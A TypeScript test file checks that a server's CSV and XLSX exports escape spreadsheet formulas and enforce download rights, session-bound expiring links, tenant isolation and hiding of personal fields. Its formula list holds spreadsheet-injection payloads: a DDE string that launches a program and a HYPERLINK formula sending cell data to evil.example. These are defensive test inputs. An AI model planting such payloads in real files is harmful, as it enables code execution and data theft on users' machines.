// Exports against the classes of advisories: formulas in cells, and rights to download a file.
import { describe, expect, it } from 'vitest'
import { fieldEntries } from '#resources/kernel/derive.ts'
import { advisory } from '#tests/support/repository/advisories.ts'
import { exported, exportedColumns, fetched } from '#tests/support/server/exported-files.ts'
import { makerFor } from '#tests/support/server/valid-rows.ts'
import { representativeFields } from '#tests/support/runner/sampling.ts'
import { base, growing, ofShapes, resources, world } from '../kernel/contract/contract-world.ts'

const { app, admin, make, signIn, clock, database } = await world()
const specimen = resources.find(({ name }) => name === 'specimen')!
const offerTo = async (caller = admin, columns: readonly string[] = ['name']) => {
  const { result, text } = await caller.post(`${base(specimen)}/export`, { format: 'csv', columns })
  if (!result) throw new Error(text)
  return (result as { path: string }).path
}

/** Texts that a spreadsheet would evaluate when opening a file; each is stored unchanged. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  `=cmd|'/c calc'!A1`,
  '=HYPERLINK("https://evil.example?"&A1)',
  "'=1+1",
  '＝1+1',
  '-5',
  '+998',
]
describe(`${advisory(17)}`, () => {
  const texts = growing
    .filter((one) => ofShapes.includes(one))
    .flatMap((resource) =>
      representativeFields(
        resource,
        fieldEntries(resource.fields).filter(
          ([, { kind, options }]) =>
            kind === 'text' &&
            !options.pattern &&
            !options.when &&
            !options.personal &&
            !options.derived &&
            Number(options.max ?? 200) >= 10 &&
            !options.immutable,
        ),
      ).map(([key, field]) => [`${resource.name}.${key}`, resource, key, field] as const),
    )
  it.each(texts)(
    '%s is exported as text that a spreadsheet does not calculate',
    async (_, resource, key, { options }) => {
      const wanted = [
        ...formulas,
        ...(options.multiline ? ['\t=1+1', '=1\n=2'].map((text) => `x${text}`) : []),
      ].filter((text) => text.length <= Number(options.max ?? 200))
      const stored: string[] = []
      const ids: number[] = []
      for (const text of resource.mode === 'single' ? wanted.slice(0, 1) : wanted) {
        const row = await make.row(resource, { [key]: text })
        ids.push(row.id)
        stored.push(String(row[key]))
      }
      expect(stored).toEqual(resource.mode === 'single' ? wanted.slice(0, 1) : wanted)
      const body = { columns: [key], ids, filter: { sort: 'id' } }
      const csv = await exported(app, admin, base(resource), { ...body, format: 'csv' })
      const cells = csv.cells.slice(1).map(([cell]) => String(cell))
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
      // one apostrophe more at each place, and nothing else is changed
      expect(cells.map((cell) => cell.replace(/(^|[\t\n])'/g, '$1'))).toEqual(stored)
      const xlsx = await exported(app, admin, base(resource), { ...body, format: 'xlsx' })
      // typed as text; only what an import would take an apostrophe from has one more
      expect(xlsx.cells.slice(1).map(([cell]) => cell)).toEqual(
        stored.map((text) => (text.startsWith("'") ? `'${text}` : text)),
      )
    },
  )

  it('a leading tab or line break does not bypass the escape, nor does another user’s name', async () => {
    const brand = resources.find(({ name }) => name === 'car-brand')!
    const { id: brand_id } = await make.row(brand, { name: '=2+3' })
    const row = await make.row(specimen, { brand_id })
    for (const notes of ['\t=1+1', '\r=1+1', '\n=1+1']) {
      await database.query('update specimen set notes = $1 where id = $2', [notes, row.id])
      const { cells } = await exported(app, admin, base(specimen), {
        format: 'csv',
        columns: ['notes', 'brand_id'],
        ids: [row.id],
      })
      expect(cells[1]).toEqual([`'${notes.replace('=', "'=")}`, "'=2+3"])
    }
  })
  it('negative numbers stay numbers', async () => {
    const wide = resources.find(({ name }) => name === 'specimen-wide')!
    const row = await make.row(wide)
    for (const key of ['amount_1', 'count_1'])
      await database.query(`alter table specimen_wide drop constraint specimen_wide__${key}_range`)
    await database.query('update specimen_wide set amount_1 = -12.5, count_1 = -3 where id = $1', [
      row.id,
    ])
    const ask = (format: string) =>
      exported(app, admin, base(wide), { format, columns: ['amount_1', 'count_1'], ids: [row.id] })
    expect((await ask('csv')).cells[1]).toEqual(['-12,50', '-3'])
    expect((await ask('xlsx')).cells[1]).toEqual([-12.5, -3])
  })
})

describe(`${advisory(4)}`, () => {
  it('a file is downloaded only by the session that requested it, for a minute', async () => {
    await make.row(specimen)
    const path = await offerTo()
    const colleague = await signIn('colleague')
    const again = await signIn('admin')
    const neighbour = await signIn('neighbour')
    const none = await fetched(app, admin, 'api/export/v1.none')
    expect([none.status, JSON.parse(none.bytes.toString()).error.code]).toEqual([404, 'not_found'])
    for (const other of [colleague, again, neighbour])
      expect((await fetched(app, other, path)).bytes).toEqual(none.bytes)
    expect((await app.inject({ method: 'GET', url: `/${path}` })).statusCode).toBe(401)
    for (const wrong of [
      `${path.slice(0, 40)}${path[40] === 'A' ? 'B' : 'A'}${path.slice(41)}`,
      path.replace('v1', 'v2'),
      `${path}/x`,
      'api/export/',
    ])
      expect([wrong, (await fetched(app, admin, wrong)).status]).toEqual([wrong, 404])
    expect((await fetched(app, admin, path)).status).toBe(200)
    clock.advance(59_000)
    expect((await fetched(app, admin, path)).status).toBe(200)
    clock.advance(1_000)
    expect((await fetched(app, admin, path)).bytes).toEqual(none.bytes)
  })
  it('rights are checked again when the download link is used', async () => {
    const editor = await signIn('colleague')
    const path = await offerTo(editor, ['name', 'passport'])
    const set = (level: number) =>
      database.query(
        `update access_level set level = $1 where contract_id = 1 and resource = 'specimen' and role in ('customer-admin', 'root')`,
        [level],
      )
    try {
      await set(1)
      const less = await fetched(app, editor, path)
      expect([less.status, JSON.parse(less.bytes.toString()).error.fields]).toEqual([
        400,
        { 'columns.1': expect.any(String) },
      ])
      await set(0)
      expect((await fetched(app, editor, path)).status).toBe(403)
    } finally {
      await set(15)
    }
    expect((await fetched(app, editor, path)).status).toBe(200)
    await editor.post('/auth/logout')
    expect((await fetched(app, editor, path)).status).toBe(401)
  })
  it('an export contains only rows of its own contract', async () => {
    const theirs = makerFor(await signIn('neighbour'), resources)
    for (const resource of growing) {
      const own = await make.row(resource)
      const foreign = await theirs.row(resource)
      const body = {
        format: 'csv',
        columns: ['id', ...exportedColumns(resource)],
        filter: { sort: 'id' },
      }
      const ids = (await exported(app, admin, base(resource), body)).cells
        .slice(1)
        .map(([id]) => Number(id))
      expect(ids).toContain(own.id)
      const { rows } = (await admin.post(`${base(resource)}/export`, body)).result as {
        rows: number
      }
      expect(rows).toBe(ids.length)
      const [count] = await database.query<{ n: number }>(
        `select count(*)::int as n from "${resource.name.replaceAll('-', '_')}" where contract_id = 1 ${resource.archive ? 'and archived_at is null' : ''}`,
      )
      expect(ids).toHaveLength(count?.n ?? -1)
      const picked = await exported(app, admin, base(resource), {
        ...body,
        ids: [foreign.id + 1_000_000],
      })
      expect(picked.cells).toHaveLength(1)
    }
  })
})

describe(`${advisory(1)}`, () => {
  it('an export has no personal field for a reader without the right, and its values are not in the log', async () => {
    const reader = await signIn('reader')
    const row = await make.row(specimen, { passport: 'AB1234567' })
    for (const body of [
      { columns: ['name'], filter: { passport: 'AB1234567' } },
      { columns: ['name'], filter: { sort: 'passport' } },
      { columns: ['passport'] },
    ])
      expect(
        (await reader.post(`${base(specimen)}/export`, { format: 'csv', ...body })).status,
      ).toBe(400)
    const all = await exported(app, reader, base(specimen), {
      format: 'csv',
      columns: ['name'],
      filter: { search: 'AB1234567' },
    })
    expect(all.bytes.toString()).not.toContain('AB1234567')
    const mine = await exported(app, admin, base(specimen), {
      format: 'csv',
      columns: ['passport'],
      filter: { passport: 'AB1234567' },
      ids: [row.id],
    })
    expect(mine.cells[1]).toEqual(['AB1234567'])
    const [event] = await database.query<{ data: { after: object } }>(
      `select data from event_log where event_type_id = 7 order by id desc limit 1`,
    )
    expect(event?.data.after).toEqual({
      format: 'csv',
      rows: 1,
      columns: ['passport'],
      filter: { passport: '…' },
      ids: [row.id],
    })
  })
})
